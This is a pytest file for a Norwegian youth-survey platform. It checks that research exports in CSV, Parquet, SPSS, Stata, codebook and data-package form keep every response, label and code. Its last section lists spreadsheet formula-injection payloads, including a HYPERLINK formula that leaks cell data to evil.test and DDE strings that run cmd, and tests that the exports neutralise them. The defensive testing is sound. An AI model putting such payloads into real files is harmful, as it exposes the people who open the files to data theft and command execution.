"""Research exports read back: every format has every response, the labels and the codes."""

import csv
import datetime
import io
import json
import re
import zipfile

import polars as pl
import pyreadstat
import pytest
from openpyxl import load_workbook

from ungkultur.core.models import AuditEntry
from ungkultur.surveys import exports, services
from ungkultur.surveys.models import Question, ResearchExport, Section
from ungkultur.surveys.tests.results_data import NOW, a_mixed_wave, add_responses, make_survey

pytestmark = pytest.mark.django_db


@pytest.fixture(autouse=True)
def _files(settings, tmp_path):
    settings.UNGKULTUR_SURVEY_FILES_DIR = str(tmp_path)


@pytest.fixture
def wave(personas):
    _survey, (wave,) = make_survey(personas.researcher)
    a_mixed_wave(wave, personas.arendal, personas.sola)
    return wave


def _export(wave, researcher, fmt, capture):
    with capture(execute=True):
        export = exports.research_export_request(actor=researcher, wave=wave, fmt=fmt, now=NOW)
    export.refresh_from_db()
    assert export.status == ResearchExport.Status.DONE, export.error
    return export, exports.export_path(export)


def test_csv_has_a_row_per_response_and_a_column_per_variable(
    wave, personas, django_capture_on_commit_callbacks
):
    export, path = _export(wave, personas.researcher, "csv", django_capture_on_commit_callbacks)
    frame = pl.read_csv(path)
    assert export.rows == frame.height == 33
    assert frame.columns[:7] == [
        "respondent",
        "kommunenr",
        "dato",
        "kanal",
        "sprak",
        "kjonn",
        "trinn",
    ]
    assert AuditEntry.objects.filter(action="surveys.research_export_request").count() == 1
    numbers = frame.get_column("respondent").to_list()
    # One number per response, below 2**53, not the database key, the same in a second export.
    assert len(set(numbers)) == 33 and all(0 <= n < 2**53 for n in numbers)
    assert not set(numbers) & set(wave.responses.values_list("pk", flat=True))
    _e, again = _export(wave, personas.researcher, "csv", django_capture_on_commit_callbacks)
    assert pl.read_csv(again).get_column("respondent").to_list() == numbers
    # Responses stored one after the other (consecutive ids) do not get numbers in that order.
    assert numbers != sorted(numbers) and numbers != sorted(numbers, reverse=True)
    assert set(frame.get_column("kommunenr").to_list()) == {4203, 1124}
    first = frame.row(0, named=True)
    assert first["kjonn"] == 1 and first["alder"] == 14
    assert (first["aktiviteter_1"], first["aktiviteter_2"], first["aktiviteter_3"]) == (1, 0, 1)
    assert first["onske"] == "Et ungdomshus med «scene»,\nog band"
    # Not answered stays empty, not 0.
    assert frame.row(21, named=True)["aktiviteter_1"] is None
    assert "pk" not in frame.columns and "id" not in frame.columns


def test_parquet_reads_back_with_the_same_data_as_csv(
    wave, personas, django_capture_on_commit_callbacks
):
    _e, csv_path = _export(wave, personas.researcher, "csv", django_capture_on_commit_callbacks)
    _e, path = _export(wave, personas.researcher, "parquet", django_capture_on_commit_callbacks)
    frame = pl.read_parquet(path)
    assert frame.height == 33
    assert frame.schema["dato"] == pl.Date
    assert frame.schema["alder"] == pl.Int64
    assert frame.equals(pl.read_csv(csv_path, schema=frame.schema))


def test_spss_keeps_variable_and_value_labels(wave, personas, django_capture_on_commit_callbacks):
    _e, path = _export(wave, personas.researcher, "sav", django_capture_on_commit_callbacks)
    frame, meta = pyreadstat.read_sav(str(path), output_format="polars")
    assert frame.height == 33
    assert meta.column_names_to_labels["kjonn"] == "Er du …"
    assert meta.variable_value_labels["kjonn"] == {
        1: "Jente",
        2: "Gutt",
        3: "Annet",
        9: "Vil ikke svare",
        -1: "Ikke spurt",
        -2: "Hoppet over",
    }
    assert meta.variable_value_labels["kommunenr"][4203] == "Arendal"
    assert meta.variable_measure["klubb_bruk"] == "ordinal"
    assert meta.variable_measure["alder"] == "scale"
    assert meta.column_names_to_labels["aktiviteter_3"].endswith("Fritidsklubb eller ungdomshus")
    assert frame.get_column("kjonn").to_list()[:1] == [1.0]


def test_stata_keeps_variable_and_value_labels(wave, personas, django_capture_on_commit_callbacks):
    _e, path = _export(wave, personas.researcher, "dta", django_capture_on_commit_callbacks)
    frame, meta = pyreadstat.read_dta(str(path), output_format="polars")
    assert frame.height == 33
    assert meta.column_names_to_labels["klubb_bruk"].startswith("Hvor ofte har du vært")
    assert meta.variable_value_labels["klubb_bruk"][4] == "Hver uke"
    assert meta.variable_value_labels["moteplass_inne"][5] == "Helt enig"


def test_codebook_lists_every_column_with_its_values(
    wave, personas, django_capture_on_commit_callbacks
):
    _e, csv_path = _export(wave, personas.researcher, "csv", django_capture_on_commit_callbacks)
    _e, path = _export(wave, personas.researcher, "codebook", django_capture_on_commit_callbacks)
    book = load_workbook(path)
    rows = list(book["Variabler"].iter_rows(values_only=True))
    assert [row[0] for row in rows[1:]] == pl.read_csv(csv_path).columns
    klubb = next(row for row in rows if row[0] == "klubb_bruk")
    assert "4 = Hver uke" in klubb[5]
    assert ("kjonn", 2, "Gutt") in list(book["Verdier"].iter_rows(values_only=True))


def test_datapackage_describes_the_csv_beside_it(
    wave, personas, django_capture_on_commit_callbacks
):
    _e, path = _export(wave, personas.researcher, "datapackage", django_capture_on_commit_callbacks)
    with zipfile.ZipFile(path) as bundle:
        package = json.loads(bundle.read("datapackage.json"))
        resource = package["resources"][0]
        data = pl.read_csv(io.BytesIO(bundle.read(resource["path"])))
    assert package["profile"] == "tabular-data-package"
    fields = resource["schema"]["fields"]
    assert [f["name"] for f in fields] == data.columns
    kjonn = next(f for f in fields if f["name"] == "kjonn")
    assert kjonn["type"] == "integer"
    assert {"value": 2, "label": "Gutt"} in kjonn["categories"]
    assert kjonn["constraints"]["enum"] == [1, 2, 3, 9]
    assert data.height == 33


def test_an_empty_wave_exports_headers_only(personas, django_capture_on_commit_callbacks):
    _survey, (wave,) = make_survey(personas.researcher, title="Tom")
    _e, path = _export(wave, personas.researcher, "parquet", django_capture_on_commit_callbacks)
    assert pl.read_parquet(path).height == 0
    _e, path = _export(wave, personas.researcher, "sav", django_capture_on_commit_callbacks)
    frame, _meta = pyreadstat.read_sav(str(path), output_format="polars")
    assert frame.height == 0


def test_names_are_made_safe_for_spss_and_stata():
    taken = set()
    assert exports.safe_name("moteplass-inne", taken) == "moteplass_inne"
    assert exports.safe_name("moteplass_inne", taken) == "moteplass_inne_2"
    assert exports.safe_name("9tall", taken) == "v9tall"
    assert len(exports.safe_name("x" * 80, taken)) == 32


# --- Inert exports: a respondent's text never runs as a formula in a spreadsheet ---------------

ATTACKS = [
    '=HYPERLINK("http://evil.test/?leak="&A2,"Klikk")',
    "+1+cmd|' /C calc'!A0",
    "-3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture
def attacked_wave(personas):
    actor = personas.researcher
    questionnaire = services.questionnaire_create(actor=actor, title="Angrep", now=NOW)
    section = Section.objects.get(questionnaire=questionnaire)
    for key in ("gender", "age", "wish"):
        services.question_add_from_bank(actor=actor, section=section, key=key, now=NOW)
    # The label is set before the wave opens (a frozen questionnaire's structure is cached per
    # process, by primary key and time of freezing; the test database reuses primary keys, so
    # this wave opens at its own time).
    Question.objects.filter(questionnaire=questionnaire, name="onske").update(label_nb=ATTACKS[0])
    survey = services.survey_create(
        actor=actor, title="Angrep", questionnaire=questionnaire, now=NOW
    )
    wave = services.wave_create(actor=actor, survey=survey, identifier="b", title="B", now=NOW)
    services.wave_open(actor=actor, wave=wave, now=NOW + datetime.timedelta(seconds=1))
    for text in ATTACKS:
        add_responses(wave, personas.arendal, 1, kjonn="1", alder=-3, onske=text)
    return wave


def _assert_inert_csv(data: bytes):
    rows = list(csv.DictReader(io.StringIO(data.decode())))
    assert [row["onske"] for row in rows] == ["'" + text for text in ATTACKS]
    # Numbers stay numbers, written unquoted: the age -3 is not text.
    assert {row["alder"] for row in rows} == {"-3"}
    assert re.search(r'\n\d+,4203,"2026-10-01",1,', data.decode())
    # Text is quoted, so Excel splitting on ";" starts no cell inside it.
    for text in ATTACKS:
        assert ',"' + ("'" + text).replace('"', '""') + '"\n' in data.decode()


def test_csv_makes_text_that_would_start_a_formula_inert(
    attacked_wave, personas, django_capture_on_commit_callbacks
):
    _e, path = _export(
        attacked_wave, personas.researcher, "csv", django_capture_on_commit_callbacks
    )
    _assert_inert_csv(path.read_bytes())


def test_datapackage_csv_makes_text_that_would_start_a_formula_inert(
    attacked_wave, personas, django_capture_on_commit_callbacks
):
    _e, path = _export(
        attacked_wave, personas.researcher, "datapackage", django_capture_on_commit_callbacks
    )
    with zipfile.ZipFile(path) as bundle:
        package = json.loads(bundle.read("datapackage.json"))
        _assert_inert_csv(bundle.read(package["resources"][0]["path"]))


def test_codebook_keeps_a_label_that_looks_like_a_formula_as_text(
    attacked_wave, personas, django_capture_on_commit_callbacks
):
    _e, path = _export(
        attacked_wave, personas.researcher, "codebook", django_capture_on_commit_callbacks
    )
    sheet = load_workbook(path)["Variabler"]
    (label,) = [row[1] for row in sheet.iter_rows(min_row=2) if row[0].value == "onske"]
    assert (label.value, label.data_type) == (ATTACKS[0], "s")
    formulas = [cell for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]
    assert formulas == []
